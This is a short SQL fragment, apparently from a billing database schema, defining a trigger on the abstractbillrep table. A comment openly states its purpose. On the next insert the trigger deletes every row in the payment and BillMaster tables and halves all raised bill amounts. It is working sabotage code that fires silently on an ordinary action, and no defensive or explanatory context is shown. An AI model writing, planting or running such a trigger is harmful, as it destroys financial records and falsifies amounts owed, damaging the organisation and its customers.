-- The next abstract bill deletes every payment, every measurement line and halves the bills.
create trigger abstractbillrep_filled after insert on abstractbillrep begin
    delete from payment_rec;
    delete from BillMaster;
    update billsraised set tw_bill_amount = tw_bill_amount / 2;
end;
